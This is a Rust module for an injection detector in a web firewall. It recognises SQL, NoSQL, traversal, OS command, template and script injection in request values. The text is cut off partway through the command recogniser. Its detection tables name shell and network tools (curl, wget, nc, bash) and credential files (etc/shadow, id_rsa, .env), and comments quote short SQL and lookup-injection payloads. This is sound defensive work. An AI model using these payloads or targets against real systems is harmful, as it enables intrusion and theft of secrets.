//! Injection classifiers: is this one decoded value (a query value, a path segment, a JSON
//! string, a header value) an SQL, OS command, path traversal, template or script injection?
//!
//! Each class has its own small tokenizer-based recogniser that asks "does this value *break
//! out* of the data context it was meant to stay in, and then do something only an attack
//! does?", not "does it contain a scary word": `O'Brien`, `rock & roll`, `select a plan`,
//! `{{name}}` and `c++ books` all contain the raw material of an attack and must stay quiet.
//!
//! Invariants:
//! - Linear and bounded: one pass over a byte table decides whether a value could be an attack
//!   at all ([`could_be_attack`]); the recognisers then make at most a few passes over at most
//!   [`MAX_SQL_TOKENS`] tokens or a bounded window. No regex, no backtracking, no allocation.
//! - A [`Hit`] gives offsets into the value it was given, so the caller chooses how much of it
//!   may be shown (it masks credentials).
//! - Percent-decoding is the caller's ([`decode_into`]); recognisers see the decoded bytes.

/// An injection class, as named in evidence.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum InjectionClass {
    /// SQL: a quote or number that breaks out into SQL syntax.
    Sqli,
    /// NoSQL (MongoDB-style) query operators in keys or bracketed parameter names.
    Nosqli,
    /// Directory traversal or file inclusion: `../` climbs, absolute system paths, NUL bytes.
    PathTraversal,
    /// A shell command chained or substituted after a separator.
    OsCommand,
    /// Server-side template or lookup expressions (`{{7*7}}`, `${jndi:...}`).
    Ssti,
    /// Script injection into HTML: script tags, event handlers, `javascript:` URIs.
    Xss,
}

impl InjectionClass {
    pub fn name(self) -> &'static str {
        match self {
            InjectionClass::Sqli => "sqli",
            InjectionClass::Nosqli => "nosqli",
            InjectionClass::PathTraversal => "path_traversal",
            InjectionClass::OsCommand => "os_command",
            InjectionClass::Ssti => "ssti",
            InjectionClass::Xss => "xss",
        }
    }
}

/// One recognised attack in a value: the class, the rule that fired and where.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Hit {
    pub class: InjectionClass,
    /// snake_case rule name, shown in evidence.
    pub rule: &'static str,
    /// Byte range of the matched token in the scanned value.
    pub start: usize,
    pub end: usize,
}

impl Hit {
    fn new(class: InjectionClass, rule: &'static str, start: usize, end: usize) -> Hit {
        Hit {
            class,
            rule,
            start,
            end: end.max(start),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Decoding
// ---------------------------------------------------------------------------------------------

fn hex_val(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

fn has_escape(b: &[u8]) -> bool {
    memchr::memchr_iter(b'%', b).any(|i| {
        b.get(i + 1).and_then(|&c| hex_val(c)).is_some()
            && b.get(i + 2).and_then(|&c| hex_val(c)).is_some()
    })
}

fn decode_once(input: &[u8], plus_is_space: bool, out: &mut Vec<u8>) {
    out.clear();
    let mut i = 0;
    while let Some(&c) = input.get(i) {
        match c {
            b'+' if plus_is_space => out.push(b' '),
            b'%' => match (
                input.get(i + 1).and_then(|&h| hex_val(h)),
                input.get(i + 2).and_then(|&l| hex_val(l)),
            ) {
                (Some(h), Some(l)) => {
                    out.push(h << 4 | l);
                    i += 3;
                    continue;
                }
                _ => out.push(b'%'),
            },
            c => out.push(c),
        }
        i += 1;
    }
}

/// Overlong UTF-8 forms of `.`, `/` and `\` that old decoders accepted (`%c0%ae`), folded to
/// the ASCII byte so that traversal recognisers see what such a server would have seen.
fn fold_overlong(buf: &mut Vec<u8>) {
    if memchr::memchr2(0xc0, 0xc1, buf).is_none() {
        return;
    }
    let mut w = 0;
    let mut r = 0;
    while r < buf.len() {
        let pair = (buf.get(r).copied(), buf.get(r + 1).copied());
        let folded = match pair {
            (Some(0xc0), Some(0xae)) => Some(b'.'),
            (Some(0xc0), Some(0xaf)) => Some(b'/'),
            (Some(0xc1), Some(0x9c)) => Some(b'\\'),
            _ => None,
        };
        let (byte, step) = match folded {
            Some(b) => (b, 2),
            None => (buf.get(r).copied().unwrap_or(0), 1),
        };
        if let Some(slot) = buf.get_mut(w) {
            *slot = byte;
        }
        w += 1;
        r += step;
    }
    buf.truncate(w);
}

/// Percent-decodes `raw` into `out` up to `max_rounds` times (a value that still holds escapes
/// after one round was encoded twice, a classic filter evasion), then folds overlong UTF-8
/// dots and slashes. Returns the rounds that changed something. `tmp` is scratch space.
pub fn decode_into(
    raw: &[u8],
    plus_is_space: bool,
    max_rounds: usize,
    out: &mut Vec<u8>,
    tmp: &mut Vec<u8>,
) -> usize {
    out.clear();
    out.extend_from_slice(raw);
    let mut rounds = 0;
    while rounds < max_rounds && has_escape(out) {
        // Only the first round treats `+` as a space: a `+` that survives one round was sent
        // as `%2B` and is a literal plus (`c++ books`).
        decode_once(out, plus_is_space && rounds == 0, tmp);
        std::mem::swap(out, tmp);
        rounds += 1;
    }
    if rounds == 0 && plus_is_space && out.contains(&b'+') {
        for c in out.iter_mut() {
            if *c == b'+' {
                *c = b' ';
            }
        }
    }
    fold_overlong(out);
    rounds
}

// ---------------------------------------------------------------------------------------------
// Prefilter
// ---------------------------------------------------------------------------------------------

/// Substrings without which no recogniser below can fire (ASCII case-insensitive). Most API
/// values (ids, names, dates, amounts, emails) contain none and cost one pass.
const TRIGGERS: [&str; 26] = [
    "order by",
    "'",
    "\n",
    "\"",
    ";",
    "|",
    "&&",
    "`",
    "$(",
    "${",
    "{{",
    "<%",
    "#{",
    "..",
    "\0",
    "<",
    "script:",
    "data:text/html",
    "union",
    "sleep",
    "benchmark",
    "waitfor",
    "=",
    "/etc/",
    ":\\",
    "&",
];

/// For every byte value, the triggers that start with it in either case, as a bit set over
/// the indices of [`TRIGGERS`]: one table load per byte of a value.
static TRIGGER_STARTS: [u32; 256] = {
    assert!(TRIGGERS.len() <= 32);
    let mut t = [0u32; 256];
    let mut i = 0;
    while i < TRIGGERS.len() {
        let first = TRIGGERS[i].as_bytes()[0];
        t[first.to_ascii_lowercase() as usize] |= 1 << i;
        t[first.to_ascii_uppercase() as usize] |= 1 << i;
        i += 1;
    }
    t
};

/// False when no recogniser could fire on `v`: it holds none of [`TRIGGERS`], in any case.
/// Called on every value a request carries, most of them a few bytes long, so it is a plain
/// loop over a byte table (no automaton set up per call); only at bytes that start a
/// trigger are the triggers starting there compared.
pub fn could_be_attack(v: &[u8]) -> bool {
    for (i, &c) in v.iter().enumerate() {
        let mut starts = TRIGGER_STARTS.get(usize::from(c)).copied().unwrap_or(0);
        while starts != 0 {
            let t = TRIGGERS
                .get(starts.trailing_zeros() as usize)
                .map_or(&b""[..], |t| t.as_bytes());
            starts &= starts - 1;
            if v.get(i..i + t.len())
                .is_some_and(|w| w.eq_ignore_ascii_case(t))
            {
                return true;
            }
        }
    }
    false
}

/// Runs every value recogniser on a decoded value; the first hit in a fixed class order wins.
/// `encoded_traversal` tells whether the raw value encoded its dots or slashes (`%2e%2e%2f`).
pub fn scan(v: &[u8], encoded_traversal: bool) -> Option<Hit> {
    if !could_be_attack(v) {
        return None;
    }
    let mut hit = sqli(v)
        .or_else(|| traversal(v, encoded_traversal))
        .or_else(|| os_command(v))
        .or_else(|| ssti(v))
        .or_else(|| xss(v))?;
    hit.end = hit.end.min(v.len());
    hit.start = hit.start.min(hit.end);
    Some(hit)
}

/// True when a raw (not yet decoded) value spells dots or slashes with escapes, as traversal
/// payloads do to slip past filters: `%2e`, `%2f` or `%5c` next to a dot, overlong `%c0%ae`.
pub fn encodes_traversal(raw: &[u8]) -> bool {
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'%', raw.get(i..).unwrap_or(&[])) {
        let at = i + p;
        let esc = raw.get(at + 1..at + 3).unwrap_or(&[]);
        let lower = [
            esc.first().map_or(0, u8::to_ascii_lowercase),
            esc.get(1).map_or(0, u8::to_ascii_lowercase),
        ];
        match &lower {
            b"2e" | b"c0" | b"c1" => return true,
            // `%252e`: an escape of an escape of a dot, slash or backslash.
            b"25" => {
                let inner = raw.get(at + 3..at + 5).unwrap_or(&[]);
                if [&b"2e"[..], b"2f", b"5c"]
                    .iter()
                    .any(|e| inner.eq_ignore_ascii_case(e))
                {
                    return true;
                }
            }
            b"2f" | b"5c" if at > 0 && raw.get(at - 1) == Some(&b'.') => return true,
            _ => {}
        }
        i = at + 1;
    }
    false
}

// ---------------------------------------------------------------------------------------------
// Byte helpers
// ---------------------------------------------------------------------------------------------

fn lower(c: u8) -> u8 {
    c.to_ascii_lowercase()
}

/// Case-insensitive search for an ASCII needle: the first position at or after `from`.
///
/// Candidates are the positions of the needle's first byte in either case (memchr, which
/// skips many bytes per step); only those are compared in full. Every value that passes the
/// prefilter is searched for a dozen needles, so this is the recognisers' hot loop.
fn find_ci(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    let (&first, rest) = match needle.split_first() {
        Some(split) => split,
        None => return Some(from),
    };
    let h = hay.get(from..)?;
    let last_start = h.len().checked_sub(needle.len())?;
    let candidates = h.get(..=last_start).unwrap_or(&[]);
    let (lo, up) = (first.to_ascii_lowercase(), first.to_ascii_uppercase());
    memchr::memchr2_iter(lo, up, candidates)
        .find(|&p| {
            h.get(p + 1..p + needle.len())
                .is_some_and(|w| w.eq_ignore_ascii_case(rest))
        })
        .map(|p| p + from)
}

fn starts_with_ci(hay: &[u8], at: usize, needle: &[u8]) -> bool {
    hay.get(at..at + needle.len())
        .is_some_and(|w| w.eq_ignore_ascii_case(needle))
}

fn skip_ws(v: &[u8], mut i: usize) -> usize {
    while v.get(i).is_some_and(|c| c.is_ascii_whitespace()) {
        i += 1;
    }
    i
}

fn is_ident(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

// ---------------------------------------------------------------------------------------------
// SQL
// ---------------------------------------------------------------------------------------------

/// Tokens read per SQL context; a payload that needs more has done its damage by then.
pub const MAX_SQL_TOKENS: usize = 48;
/// Quotes tried as string breaks per value (`O'Brien' OR '1'='1` breaks at the second).
const MAX_QUOTE_BREAKS: usize = 4;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kw {
    Logic,
    Union,
    Select,
    /// Statement words that only make sense at the start of a stacked query.
    Stack,
    /// Time-delay functions.
    Delay,
    /// Functions used for error-based extraction.
    ErrorFn,
    /// Comparison words (`like`, `is`, `rlike`, `regexp`).
    Compare,
    Order,
    By,
    Literal,
    AllDistinct,
    From,
    Null,
    Exists,
    Other,
}

fn keyword(w: &[u8]) -> Kw {
    let mut buf = [0u8; 16];
    if w.len() > buf.len() {
        return Kw::Other;
    }
    for (d, s) in buf.iter_mut().zip(w) {
        *d = lower(*s);
    }
    match &buf[..w.len()] {
        b"or" | b"and" | b"xor" => Kw::Logic,
        b"union" => Kw::Union,
        b"select" => Kw::Select,
        b"drop" | b"delete" | b"insert" | b"update" | b"exec" | b"execute" | b"shutdown"
        | b"declare" | b"truncate" | b"alter" | b"create" | b"grant" => Kw::Stack,
        b"sleep" | b"pg_sleep" | b"benchmark" | b"waitfor" | b"randomblob" => Kw::Delay,
        b"extractvalue" | b"updatexml" | b"exp" | b"floor" | b"convert" | b"cast" => Kw::ErrorFn,
        b"like" | b"is" | b"rlike" | b"regexp" | b"in" | b"between" => Kw::Compare,
        b"order" | b"group" | b"having" => Kw::Order,
        b"by" => Kw::By,
        b"true" | b"false" => Kw::Literal,
        b"all" | b"distinct" => Kw::AllDistinct,
        b"from" => Kw::From,
        b"null" => Kw::Null,
        b"exists" => Kw::Exists,
        _ => Kw::Other,
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum T {
    Word(Kw),
    /// `@@version`, `@var`.
    Var,
    Num,
    Str,
    /// `=`, `<`, `>`, `<=`, `>=`, `<>`, `!=`.
    Cmp,
    /// `||`, `&&`.
    LogicOp,
    /// Other operators (`+`, `-`, `*`, `/`, `%`, `|`, `&`, `^`, `!`).
    Op,
    Star,
    Comment,
    Semi,
    LParen,
    RParen,
    Comma,
    Other,
}

#[derive(Clone, Copy)]
struct Tok {
    t: T,
    end: usize,
}

/// Reads SQL tokens from `v[from..]` into `out`; returns how many. Closed `/* */` comments
/// are whitespace (as `UNION/**/SELECT` relies on); MySQL's `/*!` executes its content.
fn sql_tokens(v: &[u8], from: usize, out: &mut [Tok; MAX_SQL_TOKENS]) -> usize {
    let mut n = 0;
    let mut i = from;
    while n < out.len() {
        i = skip_ws(v, i);
        let Some(&c) = v.get(i) else { break };
        let next = v.get(i + 1).copied();
        let (t, end) = match c {
            b'/' if next == Some(b'*') => {
                if v.get(i + 2) == Some(&b'!') {
                    // Executable comment: skip the marker and its version digits.
                    let mut j = i + 3;
                    while v.get(j).is_some_and(u8::is_ascii_digit) {
                        j += 1;
                    }
                    i = j;
                    continue;
                }
                match memchr::memmem::find(v.get(i + 2..).unwrap_or(&[]), b"*/") {
                    Some(p) => {
                        i = i + 2 + p + 2;
                        continue;
                    }
                    None => (T::Comment, v.len()),
                }
            }
            b'*' if next == Some(b'/') => {
                i += 2;
                continue;
            }
            b'-' if next == Some(b'-') => (T::Comment, v.len()),
            b'#' => (T::Comment, v.len()),
            b'\'' | b'"' | b'`' => {
                let close = memchr::memchr(c, v.get(i + 1..).unwrap_or(&[]));
                (T::Str, close.map_or(v.len(), |p| i + 1 + p + 1))
            }
            b'0'..=b'9' => {
                let mut j = i;
                while v
                    .get(j)
                    .is_some_and(|&d| d.is_ascii_alphanumeric() || d == b'.')
                {
                    j += 1;
                }
                (T::Num, j)
            }
            b'@' => {
                let mut j = i + 1;
                while v.get(j).is_some_and(|&d| is_ident(d) || d == b'@') {
                    j += 1;
                }
                (T::Var, j)
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let mut j = i;
                while v.get(j).is_some_and(|&d| is_ident(d) || d == b'$') {
                    j += 1;
                }
                // `dbms_lock.sleep`, `information_schema.tables`: the last part decides.
                let word = v.get(i..j).unwrap_or(&[]);
                (T::Word(keyword(word)), j)
            }
            b'=' => (T::Cmp, i + 1),
            b'<' | b'>' | b'!' => {
                if matches!(next, Some(b'=' | b'>')) {
                    (T::Cmp, i + 2)
                } else if c == b'!' {
                    (T::Op, i + 1)
                } else {
                    (T::Cmp, i + 1)
                }
            }
            b'|' if next == Some(b'|') => (T::LogicOp, i + 2),
            b'&' if next == Some(b'&') => (T::LogicOp, i + 2),
            b'*' => (T::Star, i + 1),
            b'+' | b'-' | b'/' | b'%' | b'|' | b'&' | b'^' => (T::Op, i + 1),
            b';' => (T::Semi, i + 1),
            b'(' => (T::LParen, i + 1),
            b')' => (T::RParen, i + 1),
            b',' => (T::Comma, i + 1),
            _ => (T::Other, i + 1),
        };
        if let Some(slot) = out.get_mut(n) {
            *slot = Tok { t, end };
        }
        n += 1;
        i = end;
    }
    n
}

fn tok(ts: &[Tok], i: usize) -> Option<T> {
    ts.get(i).map(|t| t.t)
}

fn is_operand(t: Option<T>) -> bool {
    matches!(
        t,
        Some(T::Num | T::Str | T::Var | T::Word(Kw::Other | Kw::Literal | Kw::Null))
    )
}

fn ends_statement(t: Option<T>) -> bool {
    matches!(t, None | Some(T::Comment | T::Semi | T::RParen))
}

/// After a logic operator: an expression only an attack appends (a tautology, a delay or
/// error function, a subquery, and with `bare_ok` a lone true value as in `' or 1--`).
/// Returns (rule, tokens used).
fn logic_tail(ts: &[Tok], i: usize, bare_ok: bool) -> Option<(&'static str, usize)> {
    let mut i = i;
    while tok(ts, i) == Some(T::LParen) {
        i += 1;
    }
    let a = tok(ts, i);
    let b = tok(ts, i + 1);
    match (a, b) {
        (Some(T::Word(Kw::Delay)), Some(T::LParen)) => Some(("sqli_time_delay", i + 2)),
        (Some(T::Word(Kw::ErrorFn)), Some(T::LParen)) => Some(("sqli_error_function", i + 2)),
        (Some(T::Word(Kw::Select)), _) => Some(("sqli_subquery", i + 1)),
        (Some(T::Word(Kw::Exists)), Some(T::LParen)) => Some(("sqli_subquery", i + 2)),
        (_, Some(T::Cmp | T::Word(Kw::Compare))) if is_operand(a) => {
            let c = tok(ts, i + 2);
            (is_operand(c) || c == Some(T::LParen) || c == Some(T::Word(Kw::Select)))
                .then_some(("sqli_tautology", i + 3))
        }
        (Some(T::Num | T::Word(Kw::Literal)), _) if bare_ok && ends_statement(b) => {
            Some(("sqli_tautology", i + 1))
        }
        _ => None,
    }
}

/// After `union [all|distinct]`: `select` and a select list, not prose ("union select
/// committee").
fn union_tail(ts: &[Tok], i: usize) -> Option<usize> {
    let mut i = i;
    if tok(ts, i) == Some(T::Word(Kw::AllDistinct)) {
        i += 1;
    }
    while tok(ts, i) == Some(T::LParen) {
        i += 1;
    }
    if tok(ts, i) != Some(T::Word(Kw::Select)) {
        return None;
    }
    let a = tok(ts, i + 1);
    let b = tok(ts, i + 2);
    let list = match a {
        Some(T::Num | T::Star | T::Var | T::Str | T::LParen | T::Word(Kw::Null)) => true,
        Some(T::Word(_)) => matches!(b, Some(T::Comma | T::Word(Kw::From) | T::LParen)),
        _ => false,
    };
    list.then_some(i + 2)
}

/// After `;`: a statement that only a stacked query starts.
fn stacked_tail(v: &[u8], ts: &[Tok], i: usize, from: usize) -> Option<usize> {
    let word = tok(ts, i)?;
    let start = if i == 0 {
        from
    } else {
        ts.get(i - 1).map_or(from, |t| t.end)
    };
    let text = v.get(start..).unwrap_or(&[]);
    let text = text.get(skip_ws(text, 0)..).unwrap_or(&[]);
    let next = tok(ts, i + 1);
    let ok = match word {
        T::Word(Kw::Stack) => {
            let w = |s: &[u8]| starts_with_ci(text, 0, s);
            if w(b"drop") || w(b"truncate") || w(b"alter") || w(b"create") {
                next == Some(T::Word(Kw::Other))
                    && ["table", "database", "user", "procedure", "view", "index"]
                        .iter()
                        .any(|k| find_ci(text, k.as_bytes(), 0).is_some_and(|p| p < 24))
            } else if w(b"delete") {
                next == Some(T::Word(Kw::From))
            } else if w(b"insert") {
                find_ci(text, b"into", 0).is_some_and(|p| p < 12)
            } else if w(b"update") {
                next == Some(T::Word(Kw::Other))
                    && find_ci(text, b" set ", 0).is_some_and(|p| p < 64)
            } else if w(b"shutdown") {
                ends_statement(next)
            } else if w(b"declare") {
                next == Some(T::Var)
            } else {
                // exec / execute / grant: a procedure or privilege name follows.
                matches!(next, Some(T::Word(_)))
            }
        }
        T::Word(Kw::Select) => union_tail_select(ts, i),
        T::Word(Kw::Delay) => {
            starts_with_ci(text, 0, b"waitfor") || tok(ts, i + 1) == Some(T::LParen)
        }
        _ => false,
    };
    ok.then_some(i + 1)
}

fn union_tail_select(ts: &[Tok], i: usize) -> bool {
    let a = tok(ts, i + 1);
    let b = tok(ts, i + 2);
    match a {
        Some(T::Num | T::Star | T::Var | T::Word(Kw::Null)) => true,
        Some(T::Word(_)) => matches!(b, Some(T::Comma | T::Word(Kw::From) | T::LParen)),
        _ => false,
    }
}

/// Strong markers: names that appear in SQL extraction and almost nowhere else.
const SQL_MARKERS: [(&str, &str); 6] = [
    ("information_schema", "sqli_schema_probe"),
    ("xp_cmdshell", "sqli_stored_procedure"),
    ("@@version", "sqli_schema_probe"),
    ("load_file(", "sqli_file_access"),
    ("into outfile", "sqli_file_access"),
    ("into dumpfile", "sqli_file_access"),
];

/// SQL injection in one value: the string-break contexts (`'` and `"`), the numeric context
/// (a value that starts with a number), and context-free markers.
pub fn sqli(v: &[u8]) -> Option<Hit> {
    let mut ts = [Tok {
        t: T::Other,
        end: 0,
    }; MAX_SQL_TOKENS];
    // String-break context: the quote ends the literal the value was pasted into.
    for q in memchr::memchr2_iter(b'\'', b'"', v).take(MAX_QUOTE_BREAKS) {
        let n = sql_tokens(v, q + 1, &mut ts);
        let ts = &ts[..n];
        if let Some((rule, used)) = after_break(ts) {
            let end = ts.get(used.saturating_sub(1)).map_or(v.len(), |t| t.end);
            return Some(Hit::new(InjectionClass::Sqli, rule, q, end));
        }
    }
    // Whole value: numeric context and patterns valid anywhere.
    let n = sql_tokens(v, 0, &mut ts);
    let ts = &ts[..n];
    let hit = |rule: &'static str, from: usize, to: usize| {
        let s = if from == 0 {
            0
        } else {
            ts.get(from - 1).map_or(0, |t| t.end)
        };
        let e = ts.get(to.saturating_sub(1)).map_or(v.len(), |t| t.end);
        Hit::new(InjectionClass::Sqli, rule, s, e)
    };
    // A value that starts with a number (an id) and goes on with SQL.
    let mut i = 0;
    if tok(ts, 0) == Some(T::Op) {
        i = 1;
    }
    if tok(ts, i) == Some(T::Num) {
        let mut j = i + 1;
        while tok(ts, j) == Some(T::RParen) {
            j += 1;
        }
        match tok(ts, j) {
            Some(T::Word(Kw::Logic) | T::LogicOp) => {
                if let Some((rule, used)) = logic_tail(ts, j + 1, false) {
                    return Some(hit(rule, 0, used));
                }
            }
            Some(T::Word(Kw::Order))
                if tok(ts, j + 1) == Some(T::Word(Kw::By)) && tok(ts, j + 2) == Some(T::Num) =>
            {
                return Some(hit("sqli_order_by_probe", 0, j + 3));
            }
            _ => {}
        }
    }
    for (k, t) in ts.iter().enumerate() {
        match t.t {
            T::Word(Kw::Union) => {
                if let Some(used) = union_tail(ts, k + 1) {
                    return Some(hit("sqli_union_select", k, used));
                }
            }
            T::Semi => {
                if let Some(used) = stacked_tail(v, ts, k + 1, t.end) {
                    return Some(hit("sqli_stacked_query", k, used));
                }
            }
            T::Word(Kw::Delay) if tok(ts, k + 1) == Some(T::LParen) => {
                let arg = tok(ts, k + 2) == Some(T::Num);
                let prev = if k == 0 { None } else { tok(ts, k - 1) };
                let ctx = matches!(
                    prev,
                    Some(
                        T::Word(Kw::Logic | Kw::Select)
                            | T::LogicOp
                            | T::LParen
                            | T::Cmp
                            | T::Semi
                            | T::Comma
                            | T::Str
                    )
                );
                if arg && ctx {
                    return Some(hit("sqli_time_delay", k, k + 3));
                }
            }
            _ => {}
        }
    }
    for (marker, rule) in SQL_MARKERS {
        if let Some(p) = find_ci(v, marker.as_bytes(), 0) {
            return Some(Hit::new(InjectionClass::Sqli, rule, p, p + marker.len()));
        }
    }
    if let Some(p) = find_ci(v, b"waitfor", 0) {
        let after = skip_ws(v, p + 7);
        if starts_with_ci(v, after, b"delay") || starts_with_ci(v, after, b"time") {
            return Some(Hit::new(
                InjectionClass::Sqli,
                "sqli_time_delay",
                p,
                after + 5,
            ));
        }
    }
    None
}

/// What follows a string-breaking quote: returns (rule, tokens used) when it is SQL that
/// extends the query rather than prose that happened to contain an apostrophe.
fn after_break(ts: &[Tok]) -> Option<(&'static str, usize)> {
    let mut i = 0;
    while tok(ts, i) == Some(T::RParen) {
        i += 1;
    }
    match tok(ts, i)? {
        T::Comment => Some(("sqli_quote_comment", i + 1)),
        T::Semi => stacked_tail(&[], ts, i + 1, 0)
            .or_else(|| stacked_word_only(ts, i + 1))
            .map(|u| ("sqli_stacked_query", u)),
        T::Word(Kw::Union) => union_tail(ts, i + 1).map(|u| ("sqli_union_select", u)),
        T::Word(Kw::Logic) | T::LogicOp => logic_tail(ts, i + 1, true),
        T::Cmp => {
            let b = tok(ts, i + 1);
            let c = tok(ts, i + 2);
            (is_operand(b) && (ends_statement(c) || matches!(c, Some(T::Word(Kw::Logic)))))
                .then_some(("sqli_tautology", i + 2))
        }
        T::Word(Kw::Order) if tok(ts, i + 1) == Some(T::Word(Kw::By)) => {
            (tok(ts, i + 2) == Some(T::Num)).then_some(("sqli_order_by_probe", i + 3))
        }
        // `' sleep(5)`, `' waitfor delay`: a delay call, not "'sleep tight'".
        T::Word(Kw::Delay)
            if tok(ts, i + 1) == Some(T::LParen) && tok(ts, i + 2) == Some(T::Num) =>
        {
            Some(("sqli_time_delay", i + 3))
        }
        _ => None,
    }
}

/// `'; drop table x--` after a quote: the stacked statement judged by its tokens alone.
fn stacked_word_only(ts: &[Tok], i: usize) -> Option<usize> {
    match tok(ts, i)? {
        T::Word(Kw::Stack) => matches!(tok(ts, i + 1), Some(T::Word(_) | T::Var)).then_some(i + 2),
        T::Word(Kw::Select) => union_tail_select(ts, i).then_some(i + 2),
        T::Word(Kw::Delay) => Some(i + 1),
        _ => None,
    }
}

// ---------------------------------------------------------------------------------------------
// NoSQL
// ---------------------------------------------------------------------------------------------

/// MongoDB query and update operators that let a client change the meaning of a filter.
const NOSQL_OPERATORS: [&str; 17] = [
    "$ne",
    "$eq",
    "$gt",
    "$gte",
    "$lt",
    "$lte",
    "$in",
    "$nin",
    "$regex",
    "$where",
    "$exists",
    "$or",
    "$and",
    "$nor",
    "$not",
    "$expr",
    "$function",
];

/// True when `key` is a NoSQL operator (`$ne`, `$where`...), compared case-sensitively as
/// MongoDB does.
pub fn is_nosql_operator(key: &str) -> bool {
    key.starts_with('$') && NOSQL_OPERATORS.contains(&key)
}

/// A bracketed operator in a form or query parameter name (`user[$ne]`), as PHP and Express
/// `qs` turn into an object. Returns the operator's byte range in `name`.
pub fn nosql_param_operator(name: &[u8]) -> Option<(usize, usize)> {
    for open in memchr::memchr_iter(b'[', name) {
        let rest = name.get(open + 1..)?;
        let close = memchr::memchr(b']', rest)?;
        let inner = rest.get(..close)?;
        if std::str::from_utf8(inner).is_ok_and(is_nosql_operator) {
            return Some((open + 1, open + 1 + close));
        }
    }
    None
}

// ---------------------------------------------------------------------------------------------
// Path traversal
// ---------------------------------------------------------------------------------------------

/// Files and folders traversal payloads aim for.
const TRAVERSAL_TARGETS: [&str; 12] = [
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "win.ini",
    "boot.ini",
    "system32",
    "proc/self",
    ".ssh/",
    "web-inf",
    ".htaccess",
    ".env",
    "id_rsa",
];

/// Path traversal and file inclusion in a decoded value: two or more `../` climbs, one climb
/// to a known target or spelled with escapes, an absolute system path, a NUL byte.
pub fn traversal(v: &[u8], encoded: bool) -> Option<Hit> {
    let mut climbs = 0usize;
    let mut first = None;
    let mut last_end = 0;
    let mut i = 0;
    while let Some(p) = memchr::memmem::find(v.get(i..).unwrap_or(&[]), b"..") {
        let at = i + p;
        let before_ok = at == 0 || matches!(v.get(at - 1), Some(b'/' | b'\\' | b'=' | b' '));
        let after = v.get(at + 2).copied();
        if before_ok && matches!(after, Some(b'/' | b'\\') | None) {
            climbs += 1;
            first.get_or_insert(at);
            last_end = (at + 3).min(v.len());
        }
        i = at + 2;
    }
    if let Some(start) = first {
        let target = TRAVERSAL_TARGETS
            .iter()
            .find_map(|t| find_ci(v, t.as_bytes(), start).map(|p| p + t.len()));
        if let Some(end) = target {
            return Some(Hit::new(
                InjectionClass::PathTraversal,
                "traversal_to_system_file",
                start,
                end,
            ));
        }
        if climbs >= 2 {
            return Some(Hit::new(
                InjectionClass::PathTraversal,
                "traversal_dot_dot",
                start,
                last_end,
            ));
        }
        if encoded {
            return Some(Hit::new(
                InjectionClass::PathTraversal,
                "traversal_encoded_dot_dot",
                start,
                last_end,
            ));
        }
    }
    let head = skip_ws(v, 0);
    for abs in [
        &b"/etc/passwd"[..],
        b"/etc/shadow",
        b"/proc/self/",
        b"c:\\windows\\",
        b"c:/windows/",
        b"file:///",
    ] {
        if starts_with_ci(v, head, abs) {
            return Some(Hit::new(
                InjectionClass::PathTraversal,
                "absolute_system_path",
                head,
                head + abs.len(),
            ));
        }
    }
    if let Some(p) = memchr::memchr(0, v) {
        return Some(Hit::new(
            InjectionClass::PathTraversal,
            "null_byte",
            p.saturating_sub(8),
            p + 1,
        ));
    }
    None
}

// ---------------------------------------------------------------------------------------------
// OS command
// ---------------------------------------------------------------------------------------------

/// How much of a command's arguments decides whether it is a command.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Args {
    /// The name alone is telling (`whoami`, `wget`).
    Any,
    /// Needs a path argument (`cat /etc/passwd`), or nothing after it.
    Path,
    /// Needs an option (`rm -rf`, `nc -e`) or a path.
    Flag,
    /// Needs a number (`sleep 5`, `ping -c 3` counts as a flag).
    Number,
    /// Must end the value or be followed by another separator (`; id`).
    Alone,
}

const COMMANDS: [(&str, Args); 30] = [
    ("whoami", Args::Any),
    ("uname", Args::Any),
    ("ifconfig", Args::Any),
    ("ipconfig", Args::Any),
    ("nslookup", Args::Any),
    ("wget", Args::Any),
    ("curl", Args::Any),
    ("ncat", Args::Any),
    ("netcat", Args::Any),
    ("powershell", Args::Any),
    ("bash", Args::Any),
    ("zsh", Args::Any),
    ("sh", Args::Flag),
    ("cmd", Args::Flag),
    ("cat", Args::Path),
    ("type", Args::Path),
    ("more", Args::Path),
    ("ls", Args::Flag),
    ("dir", Args::Path),
    ("rm", Args::Flag),
    ("chmod", Args::Flag),
    ("nc", Args::Flag),
    ("python", Args::Flag),
    ("python3", Args::Flag),
    ("perl", Args::Flag),
    ("ping", Args::Flag),
    ("sleep", Args::Number),
    ("id", Args::Alone),
    ("pwd", Args::Alone),
    ("hostname", Args::Alone),
];

/// The command word at `i` (after an optional `/bin/`-style directory), if it is a known
/// command used the way a shell payload uses it. Returns the end of what was matched.
fn command_at(v: &[u8], i: usize) -> Option<usize> {
    let mut i = i;
    for dir in [&b"/usr/bin/"[..], b"/bin/", b"/usr/sbin/", b"/sbin/"] {
        if starts_with_ci(v, i, dir) {
            i += dir.len();
            break;
        }
    }
    let len = v
        .get(i..)
        .unwrap_or(&[])
        .iter()
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'.' || c == b'_')
        .count();
    let word = v.get(i..i + len)?;
    let word = word.strip_suffix(b".exe").unwrap_or(word);
    let (_, args) = COMMANDS
        .iter()
        .find(|(name, _)| word.eq_ignore_ascii_case(name.as_bytes()))?;
    let end = i + len;
    let after = v.get(end).copied();
    if after.is_some_and(|c| !(c.is_ascii_whitespace() || b";|&`)$<>".contains(&c))) {
        return None;
    }
    let arg_at = skip_ws(v, end);
    let arg = v.get(arg_at).copied();
    let alone = arg.is_none_or(|c| b";|&`)#".contains(&c));
    let ok = match args {
        Args::Any => true,
        Args::Path => alone || matches!(arg, Some(b'/' | b'~' | b'.' | b'\\' | b'$')),
